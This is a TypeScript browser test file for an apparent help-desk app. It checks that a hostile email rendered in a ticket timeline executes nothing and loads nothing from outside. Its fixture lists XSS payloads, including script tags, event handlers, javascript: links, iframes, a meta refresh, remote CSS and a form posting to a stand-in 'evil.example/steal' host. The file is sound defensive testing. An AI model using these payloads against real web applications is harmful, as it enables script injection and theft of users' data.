/**
 * Hostile email HTML in the timeline: scripts, event handlers, javascript: links, frames,
 * forms, meta refresh, remote CSS and a full-screen overlay. Proves in the browser that nothing
 * executes, nothing loads from outside and the email cannot cover the app.
 *
 * Two ways in: the real one (the message is sent to the host's SMTP listener and goes through
 * ingestion, which sanitises it before storage) and an entry injected into the timeline response,
 * which proves the browser-side defences alone hold even if server-side sanitising missed.
 */

import nodemailer from 'nodemailer';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { expect } from 'vitest';
import type { TTicket, TTimelineEntry } from '../../shared/api/tickets.schemas.js';
import { apiAs, type LocalHost, newPage, screenshot, signIn } from './harness.js';

const HOSTILE_HTML = `
<p id="hello">Hello, my printer still jams.</p>
<script>parent.__xss = 'script'; alert('script')</script>
<img src="x" onerror="parent.__xss='onerror'">
<img src="http://evil.example/pixel.gif" alt="pixel">
<a id="js-link" href="javascript:parent.__xss='js-link'">click me</a>
<a id="web-link" href="https://example.org/help">help page</a>
<svg><script>parent.__xss='svg'</script><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<iframe src="javascript:parent.__xss='iframe'"></iframe>
<object data="javascript:parent.__xss='object'"></object>
<form action="http://evil.example/steal"><input name="p"><button id="sub">Go</button></form>
<meta http-equiv="refresh" content="0;url=javascript:parent.__xss='meta'">
<style>body { background: url(http://evil.example/bg.png) } @import url(http://evil.example/x.css);</style>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:red;z-index:99999">overlay</div>
<details open ontoggle="parent.__xss='ontoggle'">details</details>
<body onload="parent.__xss='onload'">`;

/** Shows a hostile email, injected into the timeline response, without executing or loading anything. */
export async function hostileEmailIsInert(host: LocalHost, browser: Browser): Promise<void> {
  const ticket = (await apiAs(host, 'alice@demo.local').get<{ items: TTicket[] }>('tickets?q=Printer')).items[0]!;
  const { context, page, errors } = await newPage(browser, host);
  const { dialogs, outside } = watch(host, context, page);
  await page.route(/\/api\/tickets\/[^/]+\/timeline/, async (route) => {
    if (route.request().method() !== 'GET') return route.continue();
    const response = await route.fetch();
    const page = (await response.json()) as { items: TTimelineEntry[]; nextCursor: string | null };
    const last = page.items[page.items.length - 1]!;
    page.items.push({
      ...last,
      id: `${last.ticketId}-hostile`,
      seq: last.seq + 1,
      kind: 'email_in',
      author: { kind: 'customer', email: 'carla.jones@customer.example' },
      visibility: 'public',
      body: 'Hello, my printer still jams.',
      assistId: null,
      data: {
        email: {
          from: { address: 'carla.jones@customer.example', name: 'Carla Jones' },
          to: [{ address: 'support@demo.local', name: 'Support' }],
          cc: [],
          subject: 'Re: printer <img src=x onerror=alert(1)>',
          text: 'Hello, my printer still jams.',
          html: HOSTILE_HTML,
          attachments: [],
        },
      },
    });
    await route.fulfill({ response, json: page });
  });

  await signIn(page, 'alice@demo.local', `/tickets/${ticket.number}`);
  await expectInert(page, { dialogs, outside, errors }, 'detail-email-hostile');
  await context.close();
}

/** The same hostile email sent by SMTP: ingestion stores it, the browser shows it inertly. */
export async function hostileEmailThroughIngestionIsInert(host: LocalHost, browser: Browser): Promise<void> {
  const transport = nodemailer.createTransport({
    host: '127.0.0.1',
    port: host.smtpPort,
    secure: false,
    ignoreTLS: true,
  });
  await transport.sendMail({
    from: 'Carla Jones <carla.jones@customer.example>',
    to: 'support@demo.local',
    subject: 'Hostile printer <img src=x onerror=alert(1)>',
    text: 'Hello, my printer still jams.',
    html: HOSTILE_HTML,
  });
  transport.close();
  const alice = apiAs(host, 'alice@demo.local');
  let ticket: TTicket | undefined;
  for (let i = 0; i < 100 && !ticket; i++) {
    ticket = (await alice.get<{ items: TTicket[] }>('tickets?q=Hostile%20printer')).items[0];
    if (!ticket) await new Promise((r) => setTimeout(r, 100));
  }
  expect(ticket, 'the SMTP message became a ticket').toBeDefined();
  const { context, page, errors } = await newPage(browser, host);
  const { dialogs, outside } = watch(host, context, page);
  await signIn(page, 'alice@demo.local', `/tickets/${ticket?.number}`);
  await expectInert(page, { dialogs, outside, errors }, 'detail-email-hostile-smtp');
  await context.close();
}

/** Records every dialog the page opens and every request that leaves the local host. */
function watch(host: LocalHost, context: BrowserContext, page: Page): { dialogs: string[]; outside: string[] } {
  const dialogs: string[] = [];
  const outside: string[] = [];
  page.on('dialog', (d) => {
    dialogs.push(d.message());
    void d.dismiss();
  });
  context.on('request', (r) => {
    if (!r.url().startsWith(host.url) && !r.url().startsWith('data:') && !r.url().startsWith('about:'))
      outside.push(r.url());
  });
  return { dialogs, outside };
}

async function expectInert(
  page: Page,
  seen: { dialogs: string[]; outside: string[]; errors: string[] },
  screenshotName: string,
): Promise<void> {
  const { dialogs, outside, errors } = seen;
  const frame = page.locator('[data-kind="email_in"] iframe');
  await frame.waitFor();
  // Browser-side code is a string: the Node test project has no DOM types.
  await page.waitForFunction(`(() => {
    const doc = document.querySelector('[data-kind="email_in"] iframe')?.contentDocument;
    return !!doc && doc.readyState === 'complete' && (doc.body?.textContent ?? '').includes('printer still jams');
  })()`);
  const sandbox = (await frame.getAttribute('sandbox')) ?? '';
  expect(sandbox.split(/\s+/)).not.toContain('allow-scripts');
  expect(await frame.getAttribute('srcdoc')).toContain('Content-Security-Policy');

  const inside = await page.evaluate(`(() => {
    const doc = document.querySelector('[data-kind="email_in"] iframe').contentDocument;
    // Ids may not survive server-side sanitising: find the elements by what they point at.
    [...doc.querySelectorAll('a')].forEach((a) => { if (/click me/.test(a.textContent ?? '')) a.click(); });
    const handlers = [...doc.querySelectorAll('*')].filter((el) => [...el.attributes].some((a) => a.name.startsWith('on')));
    return {
      hello: (doc.body?.textContent ?? '').includes('Hello, my printer still jams.'),
      scripts: doc.querySelectorAll('script').length,
      handlers: handlers.length,
      active: doc.querySelectorAll('iframe, object, embed, form, meta[http-equiv="refresh"]').length,
      jsLinks: [...doc.querySelectorAll('a')].filter((a) => /^s*javascript:/i.test(a.getAttribute('href') ?? '')).length,
      webLinkTarget: doc.querySelector('a[href="https://example.org/help"]')?.getAttribute('target'),
      remoteUrls: doc.documentElement.outerHTML.includes('evil.example'),
    };
  })()`);
  await page.waitForTimeout(500);
  expect(inside).toEqual({
    hello: true,
    scripts: 0,
    handlers: 0,
    active: 0,
    jsLinks: 0,
    webLinkTarget: '_blank',
    remoteUrls: false,
  });
  expect(await page.evaluate('window.__xss')).toBeUndefined();
  expect(dialogs).toEqual([]);
  expect(outside).toEqual([]);
  // The email's fixed overlay stays inside its frame: the app's header is still on top.
  expect(await page.evaluate(`document.elementFromPoint(20, 15)?.closest('header.top') !== null`)).toBe(true);
  const box = await frame.boundingBox();
  expect(box?.height ?? 0).toBeLessThanOrEqual(810);
  await page.locator('[data-kind="email_in"]').scrollIntoViewIfNeeded();
  await screenshot(page, screenshotName);
  expect(errors).toEqual([]);
}
